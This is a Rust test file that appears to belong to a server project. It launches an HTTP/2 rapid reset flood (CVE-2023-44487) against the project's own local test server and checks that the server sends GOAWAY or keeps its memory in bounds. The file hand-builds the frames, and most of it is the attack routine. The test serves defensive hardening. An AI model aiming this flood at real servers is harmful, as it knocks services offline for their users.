//! HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and reset at once, so that no limit of open streams holds.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use wordhoard_testkit::server::ServerHome;

use super::is_well;
use crate::EXE;

const STREAMS: u32 = 50_000;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A request as HPACK has it, without any table: GET, http, path, authority.
fn request(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
    block.extend(path.bytes());
    block.extend([0x01, 9]);
    block.extend(b"localhost");
    block
}

/// Attacks with one connection; gives how many streams went out and the code of the GOAWAY, if one came.
fn attack(base_url: &str) -> (u32, Option<u32>) {
    let mut stream = TcpStream::connect(base_url.strip_prefix("http://").unwrap()).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    stream.set_write_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut reading = stream.try_clone().unwrap();
    let reader = std::thread::spawn(move || {
        let mut came = Vec::new();
        drop(reading.read_to_end(&mut came));
        came
    });
    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    preface.extend(frame(SETTINGS, 0, 0, &[]));
    preface.extend(frame(SETTINGS, 1, 0, &[]));
    stream.write_all(&preface).unwrap();
    let block = request("/api/llm/requests");
    let mut sent = 0;
    for number in 0..STREAMS {
        let id = number * 2 + 1;
        let mut both = frame(HEADERS, END_STREAM_AND_HEADERS, id, &block);
        both.extend(frame(RST_STREAM, 0, id, &CANCEL));
        if stream.write_all(&both).is_err() {
            break;
        }
        sent += 1;
    }
    drop(stream.shutdown(std::net::Shutdown::Write));
    (sent, goaway(&reader.join().unwrap()))
}

fn goaway(mut frames: &[u8]) -> Option<u32> {
    while frames.len() >= 9 {
        let length = usize::from(frames[0]) << 16 | usize::from(frames[1]) << 8 | usize::from(frames[2]);
        let payload = frames.get(9..9 + length)?;
        if frames[3] == GOAWAY && payload.get(4..8) != Some(&[0; 4]) {
            return Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
        }
        frames = &frames[9 + length..];
    }
    None
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn streams_that_are_reset_at_once_hurt_nobody() {
    let home = ServerHome::new(EXE, "").unwrap();
    let server = home.start().unwrap();
    let client = server.client();
    is_well(&client).await;
    let before = server.resident_bytes().unwrap();
    let attackers: Vec<_> = (0..4)
        .map(|_| {
            let base_url = server.base_url().to_owned();
            std::thread::spawn(move || attack(&base_url))
        })
        .collect();
    let started = Instant::now();
    while attackers.iter().any(|attacker| !attacker.is_finished())
        && started.elapsed() < Duration::from_secs(30)
    {
        is_well(&client).await;
    }
    let ends: Vec<_> = tokio::task::spawn_blocking(|| {
        attackers.into_iter().map(|attacker| attacker.join().unwrap()).collect()
    })
    .await
    .unwrap();
    is_well(&client).await;
    let grown = server.resident_bytes().unwrap().saturating_sub(before);
    println!("streams sent and the code of GOAWAY: {ends:?}; grown by {} MiB", grown >> 20);
    // 0xb is ENHANCE_YOUR_CALM. Who is not sent away has not got ahead of us.
    assert!(ends.iter().all(|(sent, code)| *code == Some(0xb) || *sent == STREAMS), "{ends:?}");
    assert!(grown < 96 << 20, "{grown}");
}
